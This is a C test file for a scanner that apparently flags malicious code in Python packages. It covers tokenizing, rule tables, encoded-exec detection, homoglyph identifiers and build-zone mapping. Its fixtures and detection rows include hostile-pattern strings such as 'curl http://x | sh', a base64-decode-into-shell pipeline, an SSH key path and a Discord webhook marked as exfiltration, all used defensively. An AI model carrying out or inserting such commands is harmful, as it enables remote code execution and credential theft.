/* The engine of the source scan: tables, tokens, limits, what texts give, zones of a tree. tests/scan has the corpus and the oracle. */
#include "base/wire.h"
#include "format/snapshot.h"
#include "harness.h"

#include "finding/finding.h"
#include "scan/policy.h"
#include "scan/py_ident.h"
#include "scan/py_lex.h"
#include "scan/py_rules.h"
#include "scan/py_source.h"
#include "scan/py_text.h"
#include "scan/python.h"
#include "scan/tree.h"

static void every_rule_is_sorted_and_has_its_fact(void)
{
	size_t n, n_facts;
	const struct py_rule *rules = py_rules(&n);
	const struct fact_rule *facts = fact_rules(&n_facts);
	for (size_t i = 0; i < n; i++) {
		CHECK_ROW(i == 0 || bytes_compare(bytes_of(rules[i - 1].name), bytes_of(rules[i].name)) < 0, rules[i].name);
		CHECK_ROW(!rules[i].fact || fact_rule(bytes_of(rules[i].fact)), rules[i].name);
		CHECK_ROW(py_rule_of(bytes_of(rules[i].name)) == &rules[i] || bytes_ends(bytes_of(rules[i].name), BYTES("*")),
			  rules[i].name);
	}
	for (size_t i = 0; i < n_facts; i++) {
		CHECK_ROW(fact_rule(bytes_of(facts[i].id)) == &facts[i], facts[i].id);
		CHECK_ROW(facts[i].what[0] && facts[i].kind < N_FACT_KINDS, facts[i].id);
	}
	CHECK(policy_id(0) && !policy_id(1000));
}

static void names_are_found_by_what_they_are(void)
{
	static const struct {
		const char *name, *fact;
	} rows[] = {
		{ "os.system", "py.os-system" },
		{ "requests.Session().get", "py.requests-get" },
		{ "requests.get().json", NULL },
		{ "urllib3.PoolManager().request", "py.urllib3" },
		{ "urllib3.exceptions.HTTPError", NULL },
		{ "socket.socket().sendall", "py.socket" },
		{ "socket.socket().fileno", NULL },
		{ "os.path", NULL },
		{ "", NULL },
		{ ".os.system", NULL },
	};
	static const char *const canonical[][2] = { { "posix.system", "os.system" },
						    { "subprocess.os.system", "os.system" },
						    { "six.moves.urllib.request.urlopen", "urllib.request.urlopen" },
						    { "urllib2.urlopen", "urllib.request.urlopen" },
						    { "socket.socket", "socket.socket" },
						    { "posixpath.join", "posixpath.join" },
						    { ".os.system", ".os.system" } };
	for (size_t i = 0; i < COUNT(rows); i++) {
		const struct py_rule *rule = py_rule_of(bytes_of(rows[i].name));
		const char *fact = rule ? rule->fact : NULL;
		CHECK_ROW(fact == rows[i].fact || (fact && rows[i].fact && strcmp(fact, rows[i].fact) == 0), rows[i].name);
	}
	for (size_t i = 0; i < COUNT(canonical); i++) {
		unsigned char out[256];
		CHECK_BYTES(py_canonical(bytes_of(canonical[i][0]), out), bytes_of(canonical[i][1]));
	}
	CHECK(py_is_tool(BYTES("/usr/bin/gcc")) && py_is_tool(BYTES("cmake.exe")) && !py_is_tool(BYTES("true")) &&
	      !py_is_tool(BYTES("")));
	CHECK(py_is_builtin(BYTES("exec")) && !py_is_builtin(BYTES("len")));
}

/* Tokens with a blank between, logical lines with '|'; a fault is '!'. */
static void tokens_of(struct bytes text, struct buf *out)
{
	CLEANUP(py_lexer_done) struct py_lexer x;
	struct py_line line;
	py_lexer_init(&x, text, NULL, NULL);
	while (py_lexer_next(&x, &line)) {
		for (size_t i = 0; i < line.n_tokens; i++) {
			buf_add(out, py_token_text(text, &line.tokens[i]));
			buf_add_byte(out, ' ');
		}
		CHECK(line.tokens[line.n_tokens].kind == PY_END);
		buf_add_string(out, line.fault ? "!" : "|");
	}
}

static void tokens_are_those_of_python(void)
{
	static const struct {
		const char *name;
		struct bytes text;
		const char *want;
	} rows[] = {
		{ "nothing", LIT(""), "" },
		{ "comments and blank lines", LIT("# a\n\n \t\n"), "" },
		{ "operators", LIT("a<<=b!=c->d**e//=f:=g<>h"), "a <<= b != c -> d ** e //= f := g <> h |" },
		{ "numbers", LIT("1_0 0x1F 1e-5 .5 1.5j 0777 10L 1if x 1E+1.a 1J.b"),
		  "1_0 0x1F 1e-5 .5 1.5j 0777 10L 1 if x 1E+1 . a 1J . b |" },
		{ "strings", LIT("'a\\'b' \"\"\"c\n\"\"\" rb'\\\\' ur''"), "'a\\'b' \"\"\"c\n\"\"\" rb'\\\\' ur'' |" },
		{ "joined lines", LIT("a \\\n b\nc"), "a b |c |" },
		{ "brackets join", LIT("a(\n1,\n# x\n2)\nb"), "a ( 1 , 2 ) |b |" },
		{ "line ends", LIT("a\rb\r\nc\n"), "a |b |c |" },
		{ "an f-string", LIT("f'a{b!r:>{c}}{{d}}'"), "f' a { b ! r : > { c } } {{d}} ' |" },
		{ "nested f-strings", LIT("f'{f'{a}'}'"), "f' { f' { a } ' } ' |" },
		{ "a template", LIT("t'{a}'"), "t' { a } ' |" },
		{ "a lambda in brackets of a field", LIT("f'{(lambda x: 1)}'"), "f' { ( lambda x : 1 ) } ' |" },
		{ "an open string costs its line", LIT("a = 'x\nb"), "a = !b |" },
		{ "an open bracket ends where a statement begins", LIT("a = (1,\ndef f"), "a = ( 1 , !def f |" },
		{ "a bracket too many", LIT("a)\nb"), "a !b |" },
		{ "a stray character", LIT("a $ b\nc"), "a !c |" },
		{ "a NUL", LIT("a \0 b\nc"), "a !c |" },
	};
	for (size_t i = 0; i < COUNT(rows); i++) {
		CLEANUP(buf_done) struct buf out;
		buf_init(&out, 65536);
		tokens_of(rows[i].text, &out);
		struct bytes want = bytes_of(rows[i].want);
		if (!bytes_equal(buf_bytes(&out), want))
			test_fail(__FILE__, __LINE__, "%s: %.*s", rows[i].name, BYTES_ARG(buf_bytes(&out)));
	}
}

/* The ids of the facts of a text, each once a place, with a blank behind. */
static void facts_of(struct bytes text, struct fact_list *facts, struct buf *out)
{
	struct py_request request = { .file = text, .path = BYTES("setup.py"), .zone = ZONE_BUILD };
	python_scan(&request, facts);
	for (size_t i = 0; i < facts->n_facts; i++)
		buf_printf(out, "%s:%u:%u ", facts->facts[i].rule->id, facts->facts[i].line, facts->facts[i].column);
}

static void facts_have_their_place(void)
{
	static const struct {
		const char *name;
		struct bytes text;
		const char *want;
	} rows[] = {
		{ "nothing", LIT(""), "" },
		{ "a call", LIT("import os\n\nos.getcwd(os.system(x))"), "py.os-system:3:11 " },
		{ "in decoded code: the place of the call",
		  LIT("import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSh4KQ=='))"),
		  "py.base64:2:6 py.exec:2:1 py.os-system:2:1 " },
		{ "an odd encoding", LIT("#\n# vim: set fileencoding=koi8-r :\n"), "py.encoding:2:0 " },
		{ "two lines at most are looked at", LIT("#\n#\n# coding: koi8-r\n"), "" },
		{ "a mark and another encoding", LIT("\xef\xbb\xbf# coding: latin-1\n"), "py.not-text:0:0 " },
		{ "invalid UTF-8", LIT("x = '\xff'"), "py.not-text:0:0 " },
		{ "bidirectional controls in a comment", LIT("x = 1 # \xe2\x80\xae"), "py.bidi-text:1:9 " },
		{ "bidirectional controls in code", LIT("x = \xe2\x80\xae"), "py.bidi-code:1:5 " },
		{ "only the line is lost", LIT("x = = 1\nimport os\nos.system(x)"), "py.unparsed:1:7 py.os-system:3:1 " },
		{ "a name of many alphabets",
		  LIT("\xd0\xb0"
		      "b = 1"),
		  "py.identifier-mixed:1:1 " },
		{ "names of a function go with it", LIT("def f():\n  exec = 1\nexec(x)"), "py.exec:3:1 py.unknown-code:3:1 " },
		{ "a class does not hide from its methods", LIT("class A:\n  exec = 1\n  def f(self):\n    exec(x)"),
		  "py.exec:4:5 py.unknown-code:4:5 " },
	};
	for (size_t i = 0; i < COUNT(rows); i++) {
		CLEANUP(arena_done) struct arena a;
		CLEANUP(buf_done) struct buf out;
		struct fact_list facts = { .arena = &a };
		arena_init(&a);
		buf_init(&out, 65536);
		facts_of(rows[i].text, &facts, &out);
		if (!bytes_equal(buf_bytes(&out), bytes_of(rows[i].want)))
			test_fail(__FILE__, __LINE__, "%s: %.*s", rows[i].name, BYTES_ARG(buf_bytes(&out)));
	}
}

/* The kinds "unparsed" of a text made of n times `before`, `middle`, n times `after`. */
static bool is_unparsed(const char *before, const char *middle, const char *after, size_t n)
{
	CLEANUP(arena_done) struct arena a;
	CLEANUP(buf_done) struct buf text;
	CLEANUP(buf_done) struct buf out;
	struct fact_list facts = { .arena = &a };
	arena_init(&a);
	buf_init(&text, 1 << 25);
	buf_init(&out, 1 << 20);
	buf_add_string(&text, "x = ");
	for (size_t i = 0; i < n; i++)
		buf_add_string(&text, before);
	buf_add_string(&text, middle);
	for (size_t i = 0; i < n; i++)
		buf_add_string(&text, after);
	buf_add_string(&text, "\nimport os\nos.system(y)\n");
	facts_of(buf_bytes(&text), &facts, &out);
	/* whatever happened above, the next line is read */
	CHECK(bytes_search(buf_bytes(&out), BYTES("py.os-system:3:1")) < out.size);
	return bytes_search(buf_bytes(&out), BYTES("py.unparsed")) < out.size;
}

static void nesting_has_a_limit_and_the_rest_is_read(void)
{
	static const struct {
		const char *before, *middle, *after;
		size_t most;
	} rows[] = {
		{ "(", "1", ")", PY_NESTING_MAX - 1 },
		{ "-", "1", "", PY_NESTING_MAX - 1 },
		{ "lambda: ", "1", "", PY_NESTING_MAX - 1 },
		{ "1 if 1 else ", "1", "", PY_NESTING_MAX - 1 },
		{ "", "a", ".b", 599 },
		{ "", "a", "()", 599 },
	};
	for (size_t i = 0; i < COUNT(rows); i++) {
		CHECK_ROW(!is_unparsed(rows[i].before, rows[i].middle, rows[i].after, rows[i].most), rows[i].before);
		CHECK_ROW(is_unparsed(rows[i].before, rows[i].middle, rows[i].after, rows[i].most + 1), rows[i].before);
		CHECK_ROW(is_unparsed(rows[i].before, rows[i].middle, rows[i].after, 50000), rows[i].before);
	}
	CHECK(!is_unparsed("1+", "1", "", 50000));
	CHECK(!is_unparsed("'a'", "", "", 10000));
	CHECK(is_unparsed("1,", "1", "", PY_TOKENS_MAX / 2));
}

static const struct bytes sample = LIT(
	"# coding: utf-8\nimport os as o, base64\nfrom x import (y as z, w)\n@d(1)\nasync def f[T](a, *b, c=1, **e) -> g:\n"
	"  x = f'{a!r:>{b}}' % o.system('a') if y else [z async for z in w if z]\n  exec(base64.b64decode(b'eA=='))\n"
	"with (open('a') as b, c): pass\nprint >>f, 'x'\n\xd0\xb0"
	"b = {'a': 1, **c}[::-1] # \xe2\x80\xae\n");

static void any_cut_is_survived(void)
{
	for (size_t cut = 0; cut <= sample.size; cut++) {
		CLEANUP(arena_done) struct arena a;
		CLEANUP(buf_done) struct buf out;
		struct fact_list facts = { .arena = &a };
		arena_init(&a);
		buf_init(&out, 65536);
		facts_of(bytes_part(sample, 0, cut), &facts, &out);
		facts_of(bytes_from(sample, cut), &facts, &out);
	}
}

static void facts_travel_and_break_at_every_cut(void)
{
	CLEANUP(arena_done) struct arena a;
	CLEANUP(buf_done) struct buf out;
	CLEANUP(buf_done) struct buf record;
	struct fact_list facts = { .arena = &a };
	arena_init(&a);
	buf_init(&out, 65536);
	buf_init(&record, 1 << 20);
	facts_of(sample, &facts, &out);
	CHECK(facts.n_facts > 3 && facts.n_flows > 0);
	fact_list_write(&facts, &record);
	struct bytes b = buf_bytes(&record);
	for (size_t cut = 0; cut <= b.size; cut++) {
		struct fact_list got = { .arena = &a };
		struct wire w = wire_over(bytes_part(b, 0, cut));
		CHECK_NUMBER(fact_list_read(&w, &got, NULL), cut == b.size ? OK : ERR_FORMAT);
		if (cut < b.size)
			continue;
		CHECK(got.n_facts == facts.n_facts && got.n_flows == facts.n_flows && !got.cut);
		CHECK_BYTES(got.facts[1].evidence, facts.facts[1].evidence);
		CHECK(got.facts[1].rule == facts.facts[1].rule && got.facts[1].line == facts.facts[1].line);
	}
}

static void facts_have_a_limit_and_say_so(void)
{
	CLEANUP(arena_done) struct arena a;
	struct fact_list list = { .arena = &a };
	struct fact f = { .path = BYTES("x") };
	arena_init(&a);
	for (size_t i = 0; i < FACTS_MAX; i++)
		CHECK(fact_add(&list, "py.exec", &f) == i);
	CHECK(!list.cut && fact_add(&list, "py.exec", &f) == NO_FACT && list.cut);
	CHECK(fact_add(&list, "no such id", &f) == NO_FACT);
	flow_add(&list, 1, 2);
	flow_add(&list, 1, 2);
	flow_add(&list, NO_FACT, 2);
	CHECK(list.n_flows == 1);
}

static void evidence_is_cut_between_characters(void)
{
	unsigned char line[3000];
	for (size_t i = 0; i + 1 < sizeof line; i += 2)
		memcpy(line + i, "\xc3\xa9", 2);
	for (size_t at = 0; at < sizeof line; at += 7) {
		struct bytes e = fact_evidence(bytes_make(line, sizeof line), at);
		CHECK(e.size <= EVIDENCE_MAX && bytes_is_utf8(e));
	}
	CHECK_BYTES(fact_evidence(BYTES("  x  "), 3), BYTES("x"));
	CHECK(fact_evidence(BYTES("x"), 500).size <= 1);
}

static void texts_say_what_they_are(void)
{
	static const struct {
		const char *text;
		unsigned bits;
	} rows[] = {
		{ "", 0 },
		{ "x", 0 },
		{ "C:\\Users\\x\\.SSH\\id_rsa", TEXT_CRED },
		{ ".ssh", TEXT_CRED },
		{ "a.sshx", 0 },
		{ "curl http://x | sh", TEXT_SHELL_FETCH },
		{ "curl http://x", 0 },
		{ "twine upload", TEXT_UPLOAD },
		{ "echo eA== | base64 -d | sh", TEXT_ENCODED_COMMAND },
		{ "https://discord.com/api/webhooks/1", TEXT_EXFIL },
	};
	struct text_matcher m;
	text_matcher_init(&m);
	for (size_t i = 0; i < COUNT(rows); i++)
		CHECK_ROW(text_match(&m, bytes_of(rows[i].text)) == rows[i].bits, rows[i].text);
	unsigned char random[300], words[300];
	for (size_t i = 0; i < sizeof random; i++) {
		random[i] = (unsigned char)"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[i * 37 % 64];
		words[i] = (unsigned char)(i % 6 ? 'a' + i % 7 : ' ');
	}
	CHECK(text_entropy(bytes_make(random, sizeof random)) > 580);
	CHECK(text_entropy(bytes_make(words, sizeof words)) == 0 && text_entropy(bytes_make(random, 199)) == 0);
}

static void identifiers_are_compared_as_python_does(void)
{
	CLEANUP(arena_done) struct arena a;
	arena_init(&a);
	CHECK_BYTES(py_ident_read(BYTES("\xf0\x9d\x95\x96\xf0\x9d\x95\xa9"
					"ec"),
				  &a)
			    .name,
		    BYTES("exec"));
	CHECK_BYTES(py_ident_read(BYTES("\xef\xac\x81"
					"le"),
				  &a)
			    .name,
		    BYTES("file"));
	CHECK(py_ident_read(BYTES("\xef\xbc\xa1"), &a).changed && !py_ident_read(BYTES("\xce\xb1_x"), &a).mixed);
	CHECK(py_ident_read(BYTES("p\xd0\xb0ss"), &a).mixed && !py_ident_read(BYTES("\xff"), &a).changed);
}

static void put_file(struct buf *out, const char *path, const char *content)
{
	snapshot_put_header(out, 'f', bytes_of(path), strlen(content));
	buf_add_string(out, content);
}

static void put_folder(struct buf *out, const char *path)
{
	snapshot_put_header(out, 'd', bytes_of(path), 0);
}

#define CALL "import os\nos.system(x)\n"
static void a_tree_is_scanned_by_zones(void)
{
	static const struct {
		const char *path;
		enum scan_zone zone;
	} want[] = {
		{ "backend/back.py", ZONE_BUILD },  { "backend/helper.py", ZONE_BUILD }, { "hooks/hook.py", ZONE_BUILD },
		{ "pkg/__init__.py", ZONE_IMPORT }, { "pkg/other.py", ZONE_BUILD },      { "script", ZONE_IMPORT },
		{ "setup.py", ZONE_BUILD },         { "tests/x.py", ZONE_REST },
	};
	CLEANUP(arena_done) struct arena a;
	CLEANUP(buf_done) struct buf tree;
	struct fact_list facts = { .arena = &a };
	struct scan_tree_result result;
	struct bytes path = LIT("backend");
	struct project project = { .backend = BYTES("back:x"), .backend_path = &path, .n_backend_path = 1 };
	arena_init(&a);
	buf_init(&tree, 1 << 20);
	snapshot_put_start(&tree);
	put_folder(&tree, "backend");
	put_file(&tree, "backend/back.py", "import helper\n" CALL);
	put_file(&tree, "backend/helper.py", CALL);
	put_folder(&tree, "hooks");
	put_file(&tree, "hooks/hook.py", CALL);
	put_folder(&tree, "pkg");
	put_file(&tree, "pkg/__init__.py", CALL);
	put_file(&tree, "pkg/other.py", CALL);
	put_file(&tree, "pkg/x.pth", "import os; os.system(x)\n/a/path\n");
	put_file(&tree, "pyproject.toml", "[tool.hatch.build.hooks.custom]\npath = 'hooks/hook.py'\n");
	put_file(&tree, "readme", CALL);
	put_file(&tree, "script", "#!/usr/bin/env python3\n" CALL);
	put_file(&tree, "setup.py", "import importlib.util\n__import__('pkg.other')\n" CALL);
	put_folder(&tree, "tests");
	put_file(&tree, "tests/x.py", CALL);
	snapshot_put_end(&tree);
	struct scan_tree_request request = { .snapshot = buf_bytes(&tree), .project = &project };
	CHECK(scan_tree(&request, &facts, &result, NULL) == OK);
	for (size_t i = 0; i < COUNT(want); i++) {
		size_t found = 0;
		for (size_t k = 0; k < facts.n_facts; k++)
			found += bytes_equal(facts.facts[k].path, bytes_of(want[i].path)) && facts.facts[k].zone == want[i].zone &&
				 strcmp(facts.facts[k].rule->id, "py.os-system") == 0;
		/* pkg/__init__.py comes with pkg.other */
		CHECK_ROW(found == 1 || strcmp(want[i].path, "pkg/__init__.py") == 0, want[i].path);
	}
	CHECK_NUMBER(result.n_files[ZONE_REST], 1);
	for (size_t cut = 0; cut < tree.size; cut++) {
		struct fact_list some = { .arena = &a };
		request.snapshot = bytes_part(buf_bytes(&tree), 0, cut);
		CHECK(scan_tree(&request, &some, &result, NULL) == ERR_FORMAT);
	}
}

/* What the policy says is in the table of findings, and never worse than there. */
static void every_id_of_the_policy_is_documented(void)
{
	const char *id;
	for (size_t i = 0; (id = policy_id(i)); i++) {
		const struct finding_rule *rule = finding_rule(bytes_of(id));
		CHECK_ROW(rule != NULL, id);
		CHECK_ROW((int)policy_worst(i) - SCAN_INFO <= (int)rule->severity[PROFILE_BUILD], id);
	}
}

int main(int argc, char **argv)
{
	static const struct test tests[] = {
		{ "every id of the policy is documented", every_id_of_the_policy_is_documented },
		{ "every rule is sorted and has its fact", every_rule_is_sorted_and_has_its_fact },
		{ "names are found by what they are", names_are_found_by_what_they_are },
		{ "tokens are those of Python", tokens_are_those_of_python },
		{ "facts have their place", facts_have_their_place },
		{ "nesting has a limit and the rest is read", nesting_has_a_limit_and_the_rest_is_read },
		{ "any cut is survived", any_cut_is_survived },
		{ "facts travel and break at every cut", facts_travel_and_break_at_every_cut },
		{ "facts have a limit and say so", facts_have_a_limit_and_say_so },
		{ "evidence is cut between characters", evidence_is_cut_between_characters },
		{ "texts say what they are", texts_say_what_they_are },
		{ "identifiers are compared as Python does", identifiers_are_compared_as_python_does },
		{ "a tree is scanned by zones", a_tree_is_scanned_by_zones },
	};
	return test_main(argc, argv, tests, COUNT(tests));
}
